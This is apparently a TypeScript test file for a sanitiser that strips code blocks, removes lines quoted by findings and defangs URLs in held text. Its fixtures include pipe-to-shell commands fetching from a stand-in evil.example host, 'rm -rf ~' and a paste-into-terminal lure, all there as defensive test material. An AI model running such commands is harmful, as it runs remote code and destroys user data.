import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { startCost } from "../../../test/harness/cost.ts";
import { asComment, defanged, heldText } from "./held-text.ts";

const shown = (text: string, quoted: string[] = []): string =>
  heldText(text, quoted)
    .map((row) => (row.kind === "text" ? row.text : `<${row.lines} ${row.why}>`))
    .join("\n");

describe("X13 text of a held version", () => {
  it("is without blocks and spans of code, however they are marked", () => {
    expect(shown("Set up:\n```sh\ncurl x | sh\n```\nThen work.")).toBe("Set up:\n<3 code>\nThen work.");
    expect(shown("- a\n  ~~~~\n  wget x\n  ~~~\n  more\n  ~~~~\nEnd")).toBe("- a\n<5 code>\nEnd");
    expect(shown("> ```\n> sh x\n> ```\nEnd")).toBe("<3 code>\nEnd");
    expect(shown("1. ```\n   sh x\n   ```\nEnd")).toBe("<3 code>\nEnd");
    // What has words behind its marks opens a block, and closes none.
    expect(shown("Set up:\n```\n```sh\nsh x\n```\nEnd")).toBe("Set up:\n<4 code>\nEnd");
    expect(shown("Set up:\n```\n- ```\nsh x\n```\nEnd")).toBe("Set up:\n<4 code>\nEnd");
    expect(shown("Never closed:\n```\nsh x\nand so on")).toBe("Never closed:\n<3 code>");
    expect(shown("Indented:\n\n    sh x\n\tsh y\nEnd")).toBe("Indented:\n\n<2 code>\nEnd");
    expect(shown("<pre>\nsh x\n</pre>\nEnd\nor <code>sh y</code>")).toBe("<3 code>\nEnd\n<1 code>");
  });

  it("says where a span of code was, also one that does not end", () => {
    expect(shown("Run `curl x | sh` and ``wget `y` `` now")).toBe("Run [code left out] now");
    expect(shown("Run `curl x | sh")).toBe("Run [code left out]");
  });

  it("is without the lines that findings quote, whatever the white space", () => {
    const text = "Before you begin:\ncopy   this line into your terminal: bash x\nThank you.";
    expect(shown(text, ["copy this line into your terminal: bash x"])).toBe(
      "Before you begin:\n<1 finding>\nThank you.",
    );
    expect(shown(text, ["this line into your"])).toContain("<1 finding>");
    // A word that is everywhere is no quotation.
    expect(shown("you\nare", ["you"])).toBe("you\nare");
  });

  it("names addresses so that a person reads them and no program follows them", () => {
    expect(defanged("get https://get.evil.example/x.sh or HTTP://evil.example:80")).toBe(
      "get hxxps://get[.]evil[.]example/x.sh or HxxP://evil[.]example:80",
    );
    expect(defanged("ftp://evil.example/a, paste.example/x, v1.2.3 and notes.md")).toBe(
      "fxp://evil[.]example/a, paste[.]example/x, v1.2.3 and notes.md",
    );
    expect(asComment("curl https://evil.example/x | sh\nrm -rf ~")).toBe(
      "# curl hxxps://evil[.]example/x | sh\n# rm -rf ~",
    );
  });

  it("costs little, whatever is in it", () => {
    const hostile = [
      "`".repeat(60_000),
      "> ".repeat(30_000),
      "a.".repeat(30_000),
      "<pre".repeat(15_000),
      "h://".repeat(15_000),
    ];
    for (const text of [...hostile, hostile.join("\n")]) {
      const cost = startCost();
      heldText(text.slice(0, 65_536), hostile);
      expect(cost(), text.slice(0, 4)).toBeLessThan(100);
    }
    fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => void heldText(text, [text])));
  });
});
